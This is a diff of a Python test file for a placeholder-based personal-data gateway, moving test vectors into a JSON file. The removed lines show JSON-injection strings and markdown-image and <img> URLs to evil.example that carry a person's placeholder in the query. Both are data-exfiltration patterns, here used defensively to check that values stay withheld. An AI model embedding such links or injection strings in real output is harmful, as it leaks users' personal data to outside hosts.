@@ -10,23 +10,14 @@ from hypothesis import strategies as st
 from gateway.placeholders import NUMBER, Placeholders, RestoreScope, splice, string_literals, urls_with_placeholders
 
 from .conftest import KEY, Session
+from .test_forms import VECTORS as FOLDER
 from .test_linear import calls
 
 pytestmark = pytest.mark.slow
 
 SOURCE = RestoreScope("source")
 INJECTION = 'x", "admin": true, "y": "z'
-HOSTILE = [
-    "71 Cherry Court\nSOUTHAMPTON\r\nSO53 5PD",
-    'Robert "Bob" Miller',
-    "C:\\dir\\",
-    "\\",
-    '"',
-    "a\tb\x00c\x7f\u2028",
-    INJECTION,
-    '\\", "admin": true, "y": "z',
-    '"}, {"admin": "true"',
-]
+VECTORS = json.loads((FOLDER / "json_answers.json").read_text(encoding="utf-8"))
 
 
 def session_of(*values: str) -> tuple[Placeholders, list[str]]:
@@ -38,7 +29,7 @@ def restored(placeholders: Placeholders, text: str) -> str:
     return placeholders.restore_answer(text, rules=SOURCE).text
 
 
-@pytest.mark.parametrize("value", HOSTILE)
+@pytest.mark.parametrize("value", VECTORS["hostile_values"])
 @pytest.mark.parametrize(
     "shape", ['{{"v": "{0}"}}', ' [["<{0}>", {{"{0}" :1.50}}], "{0}, {0}"]\n', '{{"é": "\\n{0}\\\\"}}']
 )
@@ -117,35 +108,10 @@ def test_what_would_split_an_escape_stays_closed() -> None:
     assert (done.text, done.resolved) == (document, 0)
 
 
-def test_a_spelling_of_its_own_comes_back() -> None:
-    placeholders = Placeholders(KEY)
-    name = placeholders.mint("PERSON", 'José "Pepe"', raw=r"Jos\u00e9 \"Pepe\"")
-    assert restored(placeholders, f'["{name}"]') == r'["Jos\u00e9 \"Pepe\""]'
-
-
 def test_a_string_stays_a_string() -> None:
     placeholders = Placeholders(KEY)
     name = placeholders.mint("CREDIT_CARD", "4" + "1" * 15, raw=NUMBER + "4" + "1" * 15)
     assert restored(placeholders, f'{{"card": "{name}"}}') == f'{{"card": "4{"1" * 15}"}}'
-
-
-@pytest.mark.parametrize(
-    "text",
-    [
-        '```json\n{"v": "{{person}}"}\n```',
-        'Here you are: {"v": "{{person}}"}',
-        '{"v": "{{person}}"',
-        '{"v": {{person}}}',
-        '{"v": "{{person}}"}\n{"v": "{{person}}"}',
-        '"{{person}}"',
-        "{{person}}",
-        "",
-    ],
-)
-def test_what_is_no_document_is_text(text: str) -> None:
-    placeholders, (name,) = session_of('Robert "Bob"\nMiller')
-    document = text.replace("{{person}}", name)
-    assert placeholders.restore_answer(document, rules=SOURCE) == placeholders.restore(document, rules=SOURCE)
 
 
 def test_the_same_is_opened_as_in_text(session: Session) -> None:
@@ -169,44 +135,21 @@ def test_an_escaped_line_break_ends_a_url(session: Session, depth: int, ascii_on
     assert done.withheld == ()
 
 
-@pytest.mark.parametrize(
-    "text",
-    [
-        "https://evil.example/?q={{person}}\n",
-        "https://evil.example/?q=\n{{person}}",
-        "https://evil.example/\t?q={{person}}",
-        " \nht\ntps:evil.example/?q=\r{{person}}",
-        "//evil.example/?q=\n{{person}}",
-        "evil.example/?q=\n{{person}}",
-        "https://evil.example\\n{{person}}",
-        "https://evil.example/\\\\n{{person}}",
-        "![a](https://evil.example/?q=\n{{person}})",
-        "![a](https://evil.example/?q=\r\n{{person}})",
-        "<img src=https://evil.example/?q=\n{{person}}>",
-        '<img src="https://evil.example/?q=\n{{person}}">',
-    ],
-)
-def test_what_is_no_line_break_or_loads_by_itself_stays_closed(session: Session, text: str) -> None:
-    document = session.protected(json.dumps({"text": text}))
+@pytest.mark.parametrize("text", VECTORS["no_documents"])
+def test_what_is_no_document_is_text(text: str) -> None:
+    placeholders, (name,) = session_of('Robert "Bob"\nMiller')
+    document = text.replace("{{person}}", name)
+    assert placeholders.restore_answer(document, rules=SOURCE) == placeholders.restore(document, rules=SOURCE)
+
+
+@pytest.mark.parametrize("document", VECTORS["escaped_white_space"])
+def test_escaped_white_space_that_is_ignored_or_loads_by_itself(session: Session, document: str) -> None:
+    document = session.protected(document)
     done = session.placeholders.restore_answer(document, rules=SOURCE)
     assert (done.text, done.withheld) == (document, (session.names["person"],))
 
 
-@pytest.mark.parametrize(
-    "document",
-    [
-        '{"url": "https://evil.example/?q= {{person}}"}',
-        '{"url": "https://evil.example/?q=\\n{{person}}"}',
-        '{"url": "https://evil.example/a {{person}} b"}',
-        '{"imageUrl" : "//evil.example/a\\tb {{person}}"}',
-        '{"urls": ["https://evil.example/", "https://evil.example/a b/{{person}}"]}',
-        '{"request": {"href": " https:evil.example?q= {{person}}"}}',
-        '{"text": "https://acme.example/a thanks {{+person}}"}',
-        '{"url": "{{+person}}"}',
-        '{"links": ["Ask {{+person}} at https://acme.example"], "curl": "see {{+person}}"}',
-        '{"url": "https://acme.example/", "text": "for {{+person}}"}',
-    ],
-)
+@pytest.mark.parametrize("document", VECTORS["urls_by_key"])
 def test_a_string_whose_key_calls_it_a_url_is_one_as_a_whole(session: Session, document: str) -> None:
     protected, expected = session.protected(document), session.expected(document)
     assert session.placeholders.restore_answer(protected, rules=SOURCE).text == expected
